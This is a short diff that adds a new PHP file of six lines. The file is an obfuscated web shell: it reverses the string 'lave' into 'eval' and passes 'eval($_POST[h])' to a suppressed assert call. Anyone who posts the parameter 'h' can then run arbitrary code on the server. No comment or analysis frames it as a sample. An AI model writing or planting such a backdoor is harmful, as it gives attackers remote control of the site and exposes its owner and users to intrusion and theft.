@@ -1,0 +1,6 @@
+<?php 
+$a='lave'; 
+$b='($_POST[h])'; 
+$a=strrev($a); 
+@assert($a.$b); 
+?>
